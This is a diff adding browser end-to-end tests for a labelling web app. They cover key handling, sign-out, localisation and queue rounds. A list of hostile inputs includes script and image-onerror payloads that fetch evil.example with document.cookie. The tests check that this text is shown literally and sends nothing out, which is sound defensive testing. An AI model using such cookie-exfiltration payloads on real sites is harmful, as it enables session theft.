@@ -1,0 +1,266 @@
+"""What only a real browser can show: keys, focus, reloads, what leaves the page."""
+
+import re
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import Page, expect
+from sqlalchemy import select
+
+from db.queries import current_labels
+from db.tables import Annotation
+from tests.e2e.conftest import IDLE, LabelPage, Serve, SignIn, child, seed, stop
+from tests.encoders import make_tiny_encoder
+from tests.workbench.making import different_texts, import_texts
+from workbench import accounts, labelling, queue, rounds
+from workbench.preparing import prepare
+from workbench.project import Project, init_project
+from workbench.services import worker_command
+
+pytestmark = pytest.mark.browser
+
+HOSTILE = [
+    "![x](http://evil.example/pixel.png) **bold** <b>b</b>",
+    "<script>fetch('http://evil.example/' + document.cookie)</script>",
+    "<img src=http://evil.example/i.png onerror=fetch('http://evil.example/')>",
+    "abc \u202edcba\u202c zero\u200bwidth",
+    "[link](http://evil.example) :red[colour] $x^2$ # title",
+]
+
+
+def labels_in(project: Project) -> list[Annotation]:
+    with project.database.read() as session:
+        return list(session.scalars(current_labels().order_by(Annotation.id)))
+
+
+def rows_in(project: Project) -> list[Annotation]:
+    with project.database.read() as session:
+        return list(session.scalars(select(Annotation).order_by(Annotation.id)))
+
+
+def label_page(page: Page) -> LabelPage:
+    desk = LabelPage(page)
+    desk.wait_until_seen()
+    return desk
+
+
+def test_a_person_stays_known_after_a_reload_and_not_after_signing_out(
+    made: Project, serve: Serve, sign_in: SignIn
+) -> None:
+    seed(made, different_texts(3))
+    page = sign_in(serve(made), name="林小雨")
+    expect(page.locator(".bar")).to_contain_text("林小雨")
+    page.reload()
+    expect(page.locator(".bar")).to_contain_text("林小雨")
+    stolen = page.context.cookies()
+    page.click("text=Sign out")
+    page.wait_for_url("**/sign-in")
+    page.context.add_cookies(
+        [{"name": one["name"], "value": one["value"], "url": page.url} for one in stolen]
+    )
+    page.goto(page.url.replace("/sign-in", "/"))
+    expect(page).to_have_url(re.compile("/sign-in"))
+
+
+def test_five_posts_by_key_and_one_taken_back_are_what_the_database_holds(
+    made: Project, serve: Serve, sign_in: SignIn
+) -> None:
+    seed(made, different_texts(12))
+    page = sign_in(serve(made))
+    desk = label_page(page)
+    answered = [desk.press(key) for key in ("1", "2", "3", "Numpad1", "2")]
+    assert len(set(answered)) == 5
+    expect(desk.last).to_contain_text("borderline")
+    desk.press("u")
+    assert desk.wait_until_seen() == answered[-1]
+    expect(page.locator("[data-count=today]")).to_have_text("mine today: 4")
+    expect(page.locator("[data-count=left]")).to_have_text("left for the team: 8")
+    assert [row.label for row in labels_in(made)] == ["normal", "suspicious", "violation", "normal"]
+
+
+def test_shift_and_a_number_changes_the_last_answer(made: Project, serve: Serve, sign_in: SignIn) -> None:
+    seed(made, different_texts(4))
+    page = sign_in(serve(made))
+    desk = label_page(page)
+    desk.press("1")
+    desk.wait_until_seen()
+    page.keyboard.press("Shift+Digit3")
+    expect(desk.last).to_contain_text("violation")
+    assert [row.label for row in labels_in(made)] == ["violation"]
+
+
+def test_double_presses_and_held_keys_answer_the_seen_post_alone(
+    made: Project, serve: Serve, sign_in: SignIn
+) -> None:
+    seed(made, different_texts(20))
+    page = sign_in(serve(made))
+    desk = label_page(page)
+    for _ in range(3):
+        before = desk.wait_until_seen()
+        page.keyboard.press("3")
+        page.keyboard.press("3")
+        expect(desk.post).not_to_have_text(before)
+        page.keyboard.press("3")  # within the first moments of a post nobody has read
+    before = desk.wait_until_seen()
+    page.keyboard.down("2")
+    expect(desk.post).not_to_have_text(before)
+    desk.wait_until_seen()
+    for _ in range(5):
+        page.keyboard.down("2")  # what a key sends that is still held when the next post could be answered
+    page.keyboard.up("2")
+    desk.wait_until_seen()
+    before = desk.post.inner_text()
+    page.locator(".st-key-answer-normal button").dblclick()
+    expect(desk.post).not_to_have_text(before)
+    desk.wait_until_seen()
+    assert [row.label for row in rows_in(made)] == ["violation"] * 3 + ["suspicious", "normal"]
+
+
+def test_keys_rest_while_somebody_types(made: Project, serve: Serve, sign_in: SignIn) -> None:
+    seed(made, different_texts(4))
+    page = sign_in(serve(made))
+    desk = label_page(page)
+    shown = desk.post.inner_text()
+    page.evaluate("document.querySelector('.stMain').append(document.createElement('input'))")
+    page.locator(".stMain > input").focus()
+    page.keyboard.type("123su")
+    page.locator(".stMain > input").evaluate("field => field.remove()")
+    for modified in ("Control+Digit1", "Alt+Digit2"):
+        page.keyboard.press(modified)
+    assert desk.post.inner_text() == shown
+    desk.press("1")
+    assert [row.label for row in rows_in(made)] == ["normal"]
+
+
+def test_hostile_text_is_shown_as_written_and_nothing_leaves_the_browser(
+    made: Project, serve: Serve, sign_in: SignIn
+) -> None:
+    seed(made, HOSTILE)
+    address = serve(made)
+    page = sign_in(address, name="<b>*Eve*</b>", role="lead")
+    elsewhere: list[str] = []
+    page.on(
+        "request",
+        lambda request: elsewhere.append(request.url) if is_elsewhere(request.url, address) else None,
+    )
+    desk = label_page(page)
+    expect(page.locator(".bar")).to_contain_text("<b>*Eve*</b>")
+    shown = [
+        desk.press("3") if number < len(HOSTILE) - 1 else desk.wait_until_seen()
+        for number in range(len(HOSTILE))
+    ]
+    marked = "abc ␣U+202Edcba␣U+202C zero␣U+200Bwidth"
+    assert sorted(shown) == sorted([*HOSTILE[:3], marked, HOSTILE[4]])
+    for screen in ("/posts", "/rounds"):
+        page.goto(address + screen)
+        page.wait_for_selector(IDLE)
+        expect(page.locator(".bar")).to_contain_text("<b>*Eve*</b>")
+    assert page.locator("img[src*=evil], .post script, a[href*=evil]").count() == 0
+    assert elsewhere == []
+
+
+def is_elsewhere(url: str, address: str) -> bool:
+    parts = urlsplit(url)
+    return parts.scheme not in {"data", "blob"} and parts.netloc != urlsplit(address).netloc
+
+
+def test_a_hostile_file_is_previewed_and_imported_as_text(
+    made: Project, serve: Serve, sign_in: SignIn, tmp_path: Path
+) -> None:
+    address = serve(made)
+    page = sign_in(address, name="林", role="lead")
+    elsewhere: list[str] = []
+    page.on(
+        "request",
+        lambda request: elsewhere.append(request.url) if is_elsewhere(request.url, address) else None,
+    )
+    column = "![x](http://evil.example/c.png)"
+    file = tmp_path / "![n](http:evil.example).tsv"
+    rows = [
+        f"id\ttext\t{column}",
+        *(f"{number}\t{text}\tx" for number, text in enumerate(HOSTILE)),
+        "too\tfew",
+    ]
+    file.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    page.goto(f"{address}/posts")
+    page.set_input_files("[data-testid=stFileUploaderDropzoneInput]", file)
+    page.click("[data-testid=stButton] >> text=Import")
+    expect(page.locator(".refusal.done")).to_have_text("6 rows: 5 new, 0 known already, 1 unreadable.")
+    expect(page.locator("table.rows").first).to_contain_text(file.name)
+    with page.expect_download() as download:
+        page.click("text=Download all unreadable rows")
+    assert "too\tfew" in download.value.path().read_text(encoding="utf-8").replace('"', "")
+    assert page.locator("img[src*=evil]").count() == 0
+    assert elsewhere == []
+
+
+def test_the_page_speaks_chinese_to_a_chinese_browser_and_english_on_demand(
+    made: Project, serve: Serve, sign_in: SignIn
+) -> None:
+    seed(made, different_texts(4))
+    page = sign_in(serve(made), locale="zh-CN")
+    desk = label_page(page)
+    expect(page.locator(".st-key-answer-suspicious")).to_contain_text("疑似")
+    desk.press("3")
+    expect(desk.last).to_contain_text("违规")
+    page.click("text=English")
+    expect(page.locator(".st-key-answer-suspicious")).to_contain_text("borderline")
+    page.reload()
+    expect(page.locator(".st-key-answer-suspicious")).to_contain_text("borderline")
+
+
+def test_an_empty_queue_says_why_and_goes_on_by_itself(made: Project, serve: Serve, sign_in: SignIn) -> None:
+    page = sign_in(serve(made))
+    expect(page.locator(".refusal")).to_contain_text("There are no posts yet. Ask a lead")
+    seed(made, different_texts(2))
+    desk = label_page(page)
+    expect(desk.post).to_be_visible()
+    desk.press("1")
+    desk.wait_until_seen()
+    page.keyboard.press("1")
+    expect(page.locator(".refusal")).to_contain_text("Nothing is left to label.")
+    page.wait_for_selector("html[data-keys=ready]", state="attached")
+    page.keyboard.press("u")
+    expect(desk.post).to_be_visible()
+
+
+def test_a_quick_round_changes_the_queue(home: Path, tmp_path: Path, serve: Serve, sign_in: SignIn) -> None:
+    project = init_project(home, base_model=str(make_tiny_encoder(tmp_path / "encoder")))
+    label_toy_posts(project)
+    before = lanes(project)
+    with child(worker_command(home)) as worker:
+        try:
+            page = sign_in(serve(project), name="林", role="lead")
+            page.click("text=Rounds")
+            page.click("text=Start a round")
+            expect(page.locator(".steps")).to_be_visible()
+            expect(page.locator("table.rows").first).to_contain_text("in use", timeout=150_000)
+        finally:
+            stop(worker)
+    assert before == {"random", "held_out"}
+    assert "uncertain" in lanes(project)
+    with project.database.read() as session:
+        assert rounds.in_use(session) is not None
+    project.database.dispose()
+
+
+def lanes(project: Project) -> set[str]:
+    with project.database.read() as session:
+        return set(labelling.left_for_team(session))
+
+
+def label_toy_posts(project: Project) -> None:
+    """Posts whose label is a matter of one word, most of them labelled."""
+    words = {"normal": "天气真好", "suspicious": "加微信低价", "violation": "去死滚蛋"}
+    names = list(words)
+    fillers = different_texts(150, length=12)
+    texts = [filler[:6] + words[names[number % 3]] + filler[6:] for number, filler in enumerate(fillers)]
+    lead = accounts.sign_in(project, "林", "lead")
+    import_texts(project, lead, texts)
+    prepare(project)
+    queue.rebuild(project)
+    for _ in range(100):
+        card = labelling.hold_posts(project, lead)[0]
+        label = next(name for name, word in words.items() if word in card.text)
+        labelling.submit(project, lead, card.post_id, label)
